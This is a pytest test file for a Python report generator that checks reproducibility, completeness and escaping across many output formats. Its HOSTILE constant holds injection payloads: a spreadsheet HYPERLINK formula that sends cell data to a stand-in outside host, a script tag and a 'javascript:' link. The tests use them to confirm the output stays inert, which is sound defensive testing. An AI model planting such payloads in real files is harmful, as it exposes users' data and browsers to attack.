"""A report is the same each time it is made, has every finding in each format, and runs nothing that it holds."""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from dataclasses import replace

import pytest
from flask.testing import FlaskClient
from pyoxigraph import Dataset, RdfFormat, Store, parse

from sopkg.languages import languages
from sopkg.report import Report, gathered, outline
from sopkg.reportforms import as_html, forms, plain, written
from tests.conftest import Demo, Sopkg

CITY, DATE = "buenos-aires", "2025-06-30"
FORMULA = '=HYPERLINK("http://elsewhere.example/?x="&A1)'
HOSTILE = f"{FORMULA}<script>alert(1)</script>](javascript:alert(2))|`"
SMALL = [name for name in forms() if name != "pdf"]  # drawing pages takes seconds: once is enough
RESULTS = """PREFIX sh: <http://www.w3.org/ns/shacl#> PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>
SELECT ?gap (COUNT(*) AS ?ways) WHERE {
  ?report a sh:ValidationReport ; sh:conforms false ; sh:result ?result .
  ?result a sh:ValidationResult ; sh:focusNode ?focus ; sh:resultSeverity ?severity ; sh:resultMessage ?message ;
    sh:sourceShape ?shape ; sh:sourceConstraintComponent ?component ; rdfs:seeAlso ?gap .
} GROUP BY ?gap"""


@pytest.fixture(scope="module")
def report(client: FlaskClient) -> Report:
    return gathered(client.application.extensions["sopkg"], CITY, None, languages()["en"])


@pytest.fixture(scope="module")
def findings(client: FlaskClient) -> dict[str, str]:
    """The identifiers of the gaps that the service lists, with their IRIs."""
    return {row["id"]: row["gap"] for row in client.get(f"/gaps?city={CITY}&per_page=1000").get_json()}


def parts(archive: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


@pytest.mark.parametrize("name", SMALL)
def test_the_same_report_is_the_same_bytes(name: str, report: Report, client: FlaskClient) -> None:
    again = gathered(client.application.extensions["sopkg"], CITY, DATE, languages()["en"])
    assert written(again, name) == written(report, name)


@pytest.mark.parametrize("name", ["html", "md", "csv"])
def test_every_finding_is_told(name: str, report: Report, findings: dict[str, str]) -> None:
    text = written(report, name).decode()
    assert {each for each in findings if each not in text} == set()
    assert len(findings) == len(report.findings)


def test_on_paper_all_is_said_of_the_worst_and_every_finding_is_listed(
    report: Report, findings: dict[str, str]
) -> None:
    text = as_html(report, full=2).decode()
    assert {each for each in findings if each not in text} == set()
    assert (text.count("<article"), as_html(report).decode().count("<article")) == (2, len(report.settled))


def test_a_workbook_has_every_finding_and_no_formula(report: Report, findings: dict[str, str]) -> None:
    sheets = parts(written(spoiled(report), "xlsx"))
    text = "".join(content.decode() for name, content in sheets.items() if name.endswith(".xml"))
    assert {each for each in findings if each not in text} == set()
    assert "HYPERLINK" in text
    assert [name for name, content in sheets.items() if b"<f>" in content or b"<hyperlink" in content] == []


def spoiled(report: Report) -> Report:
    """The report with names that would be a formula, a script or a link, were they more than text."""
    first, *others = report.settled
    return replace(report, label=HOSTILE, settled=[{**first, "about": HOSTILE, "reason": HOSTILE}, *others])


def test_what_is_named_stays_a_text(report: Report) -> None:
    made = {name: written(spoiled(report), name).decode() for name in ("html", "md", "csv", "jsonld", "shacl")}
    assert "<script" not in made["html"]
    assert "&lt;script" in made["html"]
    assert plain(HOSTILE) in made["md"]
    assert "](javascript" not in made["md"].replace(plain("](javascript"), "")
    assert "\"'=HYPERLINK" in made["csv"]


def test_json_ld_says_what_turtle_says(report: Report) -> None:
    linked, turtle = Dataset(parse(written(report, "jsonld"), format=RdfFormat.JSON_LD)), Dataset()
    for quad in parse(report.triples, format=RdfFormat.TURTLE):
        turtle.add(quad)
    assert linked == turtle


def test_the_validation_report_has_each_finding_once(report: Report, findings: dict[str, str]) -> None:
    store = Store()
    store.load(written(report, "shacl"), format=RdfFormat.TURTLE)
    rows = {row["gap"].value: int(row["ways"].value) for row in store.query(RESULTS)}  # type: ignore[union-attr]
    assert rows == dict.fromkeys(findings.values(), 1)


def test_a_crate_describes_what_it_holds(report: Report) -> None:
    held = parts(written(report, "crate"))
    nodes = {each["@id"]: each for each in json.loads(held["ro-crate-metadata.json"])["@graph"]}
    assert {each["@id"] for each in nodes["./"]["hasPart"]} == set(held) - {"ro-crate-metadata.json"}
    assert nodes["ro-crate-metadata.json"]["about"] == {"@id": "./"}
    told = {name: node["sha256"] for name, node in nodes.items() if "sha256" in node}
    assert told == {name: hashlib.sha256(held[name]).hexdigest() for name in held if name.startswith("queries/")}
    assert {each["@id"] for node in nodes.values() for each in node.get("license", [])} <= set(nodes)


def test_both_faces_make_the_same_report(demo: Demo, sopkg: Sopkg, client: FlaskClient) -> None:
    said = sopkg(demo.store, "report", "--city", CITY, "--format", "md", "--language", "zh", "--output", "-")
    answer = client.get(f"/report?city={CITY}&format=md&lang=zh")
    assert (answer.data, answer.headers["Content-Language"]) == (said.stdout_bytes, "zh")
    assert f'filename="sopkg-{CITY}-{DATE}.md"' in answer.headers["Content-Disposition"]


def test_a_report_on_paper_has_pages(client: FlaskClient) -> None:
    paper, again = (client.get("/report?city=amsterdam&format=pdf") for _ in range(2))
    if paper.status_code == 503:
        pytest.skip(paper.get_json()["detail"])
    assert paper.data.startswith(b"%PDF-")
    assert paper.data == again.data


def test_what_is_set_in_is_read_as_it_stands() -> None:
    assert outline(["Head:", "  - one", "      below"]) == [(0, "Head:"), (1, "one"), (2, "below")]


@pytest.mark.parametrize(("given", "status"), [("city=nowhere", 404), (f"city={CITY}&date=2001-01-01", 404), ("", 400)])
def test_what_is_not_there_is_told(given: str, status: int, client: FlaskClient) -> None:
    answer = client.get(f"/report?{given}", headers={"Accept": "application/problem+json, */*;q=0.1"})
    assert (answer.status_code, answer.mimetype) == (status, "application/problem+json")
